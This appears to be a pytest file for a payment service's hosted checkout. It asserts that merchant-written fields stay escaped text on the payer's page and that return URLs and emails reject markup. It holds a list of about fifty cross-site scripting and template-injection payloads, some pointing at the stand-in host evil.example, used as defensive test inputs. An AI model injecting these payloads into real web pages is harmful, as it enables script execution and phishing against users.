"""Nothing a merchant writes can become markup, script or style on the payer's page."""

from itertools import product

import pytest

from merchants.models import Merchant
from tests.checkout.pages import read_page, visit
from tests.conftest import ApiClient
from tests.payments.payer import Payer, context_of
from tests.payments.world import create

PAYLOADS = [
    *("<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
    *("<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", '"><script>alert(1)</script>'),
    *("'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)"),
    *("<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)"),
    *("<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>"),
    *('<math><mi//xlink:href="data:x,<script>alert(1)</script>">', "<object data=javascript:alert(1)>"),
    *("<embed src=javascript:alert(1)>", "<base href=//evil.example/>"),
    *("<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>"),
    *("<style>*{display:none}</style>", "</style><script>alert(1)</script>"),
    *("<form action=//evil.example><button>pay</button>", "</title><script>alert(1)</script>"),
    *("</textarea><script>alert(1)</script>", "</noscript><script>alert(1)</script>"),
    *("</select><script>alert(1)</script>", "<!--<script>alert(1)//-->", "--><script>alert(1)</script>"),
    *("<!--<script>", "<![CDATA[<script>alert(1)</script>]]>", '<?xml version="1.0"?><x>'),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    *("&quot;&gt;&lt;script&gt;", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    *("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src='x' onerror='alert(String.fromCharCode(88))'>"),
    *("{{ state.id }}{% debug %}", "{{7*7}}${7*7}<%= 7*7 %>", "\u2028alert(1)\u2029//", "\u202e<script>"),
    *("＜script＞alert(1)＜/script＞", "\\u003cscript\\u003ealert(1)", '"};alert(1);//', "</ScRiPt ><script>alert(1)"),
    *("<template><script>alert(1)</script></template>", '<x style="background:url(//evil.example)">'),
]


@pytest.mark.spec("Hosted checkout: everything a merchant writes is escaped")
@pytest.mark.slow
def test_payloads_stay_text(api: ApiClient, merchant: Merchant) -> None:
    """The page keeps exactly the elements and attributes that it has with harmless words; JSON stays JSON."""
    assert len(set(PAYLOADS)) >= 40
    Merchant.objects.filter(pk=merchant.pk).update(name="Harmless")
    plain = create(api, reference="Harmless", settlement_token="SAFE", settlement_chain="safe")
    harmless = read_page(visit(plain["id"]))
    for payload in PAYLOADS:
        Merchant.objects.filter(pk=merchant.pk).update(name=payload)
        words = dict.fromkeys(("reference", "settlement_token", "settlement_chain"), payload)
        metadata = {payload[:64]: payload, "simulate": payload}
        intent = create(api, **words, settlement_address=f"{payload} ", metadata=metadata)
        assert (intent["reference"], intent["metadata"]) == (payload.strip(), metadata)
        reply = api.get(f"/payment-intents/{intent['id']}")
        assert reply.headers["Content-Type"] == "application/json"
        assert reply.headers["X-Content-Type-Options"] == "nosniff"
        response = visit(intent["id"])
        page = read_page(response)
        assert page.shape == harmless.shape, payload
        assert page.by_test_id["merchant-name"].text == payload
        assert page.by_test_id["reference"].text == payload.strip()
        state = Payer.of(intent).state()
        assert (state["reference"], state["merchant_name"]) == (payload.strip(), payload)
        assert context_of(response.content)["state"]["reference"] == payload.strip()


@pytest.mark.spec("Hosted checkout: everything a merchant writes is escaped")
def test_payloads_are_no_addresses(api: ApiClient) -> None:
    for payload, field in product(PAYLOADS, ("return_url", "customer_email")):
        assert api.post("/payment-intents", {"amount": 25, field: payload}).status == 400, payload
    tricky = "https://shop.example/?a=&quot;onclick=alert(1)&b=%22%3E%3Cscript%3E&#x22;"
    page = read_page(visit(create(api, return_url=tricky)["id"]))
    assert page.by_test_id["cancel-link"].attributes["href"] == tricky
